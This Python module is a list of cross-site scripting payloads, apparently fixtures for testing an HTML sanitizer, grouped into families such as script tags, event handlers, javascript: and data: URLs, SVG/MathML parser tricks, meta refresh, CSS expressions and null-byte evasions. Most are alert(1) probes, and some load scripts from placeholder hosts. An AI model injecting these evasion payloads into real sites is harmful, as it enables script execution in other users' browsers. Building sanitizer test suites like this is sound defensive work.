"""Hostile HTML, by family (after the OWASP XSS filter evasion cheat sheet)."""

from __future__ import annotations

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    '<script src="http://xss.example/x.js"></script>',
    '<script/xss src="http://xss.example/x.js"></script>',
    '<SCRIPT/SRC="http://xss.example/x.js"></SCRIPT>',
    "<<script>alert(1);//<</script>",
    "<script>alert(1)//",
    "<script >alert(1)</script >",
    "<script\n>alert(1)</script>",
    "<script\t>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    '<script type="text/javascript">alert(1)</script>',
    "<script type=module>alert(1)</script>",
    "<script>/*<![CDATA[*/alert(1)/*]]>*/</script>",
    "</script><script>alert(1)</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script xlink:href=data:,alert(1)></script></svg>",
    "<math><script>alert(1)</script></math>",
    '<noscript><p title="</noscript><script>alert(1)</script>">',
    "<title><script>alert(1)</script></title>",
    "<xmp><script>alert(1)</script></xmp>",
    "<template><script>alert(1)</script></template>",
    "<!DOCTYPE html><html><head><script>alert(1)</script></head></html>",
    "<body><script>alert(1)</script></body>",
    '<?xml version="1.0"?><script>alert(1)</script>',
]

_HANDLER_TAGS = [
    "<img src=x {h}=alert(1)>",
    "<body {h}=alert(1)>",
    "<svg {h}=alert(1)>",
    '<div {h}="alert(1)">x</div>',
    "<a href=http://x.example/ {h}=alert(1)>x</a>",
    "<input autofocus {h}=alert(1)>",
    "<video><source {h}=alert(1)></video>",
    "<audio src=x {h}=alert(1)>",
    "<details open {h}=alert(1)>",
    "<p {h}=alert(1)>t</p>",
]
_HANDLERS = ["onerror", "onload", "onmouseover", "onclick", "onfocus", "ontoggle"]
EVENT_HANDLERS = [t.format(h=h) for t in _HANDLER_TAGS for h in _HANDLERS[:4]] + [
    "<img src=x OnErRoR=alert(1)>",
    "<img src=x onerror  =  alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror=&#97;lert(1)>",
    '<img src="x` onerror=alert(1)>"',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<img """><script>alert(1)</script>">',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<details open ontoggle=alert(1)>",
    "<div onanimationstart=alert(1) style=animation-name:x>",
    "<img src=x onerror=\"alert('\\u0058SS')\">",
]

_SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "jav&#x0A;ascript:alert(1)",
    "jav&#x0D;ascript:alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "java\x00script:alert(1)",
    "javascript&colon;alert(1)",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/html,<script>alert(1)</script>",
    "javascript://%0aalert(1)",
]
_URL_CONTEXTS = [
    '<a href="{u}">x</a>',
    '<img src="{u}">',
    '<img srcset="{u} 1x, http://ok.example/a.jpg 2x">',
    '<iframe src="{u}"></iframe>',
    '<form action="{u}"><button>x</button></form>',
    '<button formaction="{u}">x</button>',
    '<svg><a xlink:href="{u}"><text>x</text></a></svg>',
    '<video poster="{u}"></video>',
    '<table background="{u}"><tr><td>x</td></tr></table>',
    '<object data="{u}"></object>',
    '<embed src="{u}">',
    '<input type=image src="{u}">',
    '<img lowsrc="{u}">',
    '<link rel=stylesheet href="{u}">',
    '<base href="{u}">',
    '<math href="{u}">x</math>',
    '<picture><source srcset="{u}"><img src="http://ok.example/a.jpg"></picture>',
    '<blockquote cite="{u}">x</blockquote>',
]
SCRIPT_URLS = (
    [_URL_CONTEXTS[0].format(u=u) for u in _SCHEMES]
    + [c.format(u="javascript:alert(1)") for c in _URL_CONTEXTS[1:]]
    + [_URL_CONTEXTS[1].format(u=u) for u in _SCHEMES[2:12]]
    + [_URL_CONTEXTS[2].format(u=u) for u in _SCHEMES[1:6]]
)

SVG_MATHML = [
    '<svg><set attributeName=href to="javascript:alert(1)"/><a><text>x</text></a></svg>',
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>X</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)' /></svg>#x\" /></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">X</maction></math>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
    '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><g onload="javascript:alert(1)"></g></svg>',
    '<img src="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+">',
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>"></path></textarea></mtext></svg></mglyph></form></mtext></math>',
]

IFRAMES = [
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<iframe src="https://www.youtube.com/embed/x" srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="https://evil.example/"></iframe>',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<iframe src="https://www.youtube.com/embed/x" onload="alert(1)"></iframe>',
    '<iframe src="//www.youtube.com.evil.example/embed/x"></iframe>',
]

META = [
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">',
    '<meta http-equiv="refresh" content="0; URL=http://;URL=javascript:alert(1);">',
    '<meta charset="x-imap4-modified-utf7">',
    '<meta http-equiv="Set-Cookie" content="x=y">',
]

CSS = [
    '<div style="width: expression(alert(1))">x</div>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>@import 'javascript:alert(1)';</style>",
    '<style>body{background:url("javascript:alert(1)")}</style>',
    '<div style="behavior: url(x.htc)">x</div>',
    '<div style="-moz-binding:url(http://x.example/xss.xml#xss)">x</div>',
    '<img style="xss:expr/*XSS*/ession(alert(1))">',
    '<div style="background-image: url(&#1;javascript:alert(1))">x</div>',
    '<style>li {list-style-image: url("javascript:alert(1)");}</style><ul><li>x</li></ul>',
    '<div style="x:\\65xpression(alert(1))">x</div>',
    '<span style="color:red;background:url(javascript:alert(1))">x</span>',
    "<style>*{position:fixed;top:0;left:0;width:100%;height:100%}</style>",
]

BROKEN_NESTING = [
    '<a href="http://x.example/"><b><script>alert(1)</a></b>',
    "<p><div><script>alert(1)</script></p>",
    "<table><script>alert(1)</script></table>",
    "<select><script>alert(1)</script></select>",
    "<noscript><img src=x onerror=alert(1)></noscript>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<script>alert(1)</script>]]>",
    '<img src="x" alt="``onerror=alert(1)">',
    '<div id="x"></div"><script>alert(1)</script>',
    '<a href="http://x.example/"<script>alert(1)</script>',
    '<img src="1" onerror="alert(1)"',
    "<<img src=x onerror=alert(1)//>",
    "<img src=x onerror=alert(1)//",
    "<textarea><script>alert(1)</script></textarea>",
    "<title></title><img src=x onerror=alert(1)>",
    "<div><p>unclosed <b>bold <i>italic</div><script>alert(1)</script>",
    "<listing><img src=x onerror=alert(1)></listing>",
]

DANGEROUS_ELEMENTS = [
    '<object data="x.swf"></object>',
    '<embed src="x.swf">',
    '<applet code="x"></applet>',
    "<form><input name=x></form>",
    '<base href="javascript:alert(1)//">',
    "<link rel=import href=x>",
    "<isindex action=javascript:alert(1) type=image>",
    "<keygen autofocus onfocus=alert(1)>",
    '<button form=x formaction="javascript:alert(1)">x</button>',
    "<portal src=x></portal>",
]

NULL_BYTES = [
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img src=x o\x00nerror=alert(1)>",
    '<a href="java\x00script:alert(1)">x</a>',
    '<a href="\x0bjavascript:alert(1)">x</a>',
    "<img src=x onerror\x00=alert(1)>",
    "<\x00script>alert(1)</script>",
]

CASES: list[str] = list(
    dict.fromkeys(
        SCRIPT_TAGS
        + EVENT_HANDLERS
        + SCRIPT_URLS
        + SVG_MATHML
        + IFRAMES
        + META
        + CSS
        + BROKEN_NESTING
        + DANGEROUS_ELEMENTS
        + NULL_BYTES
    )
)
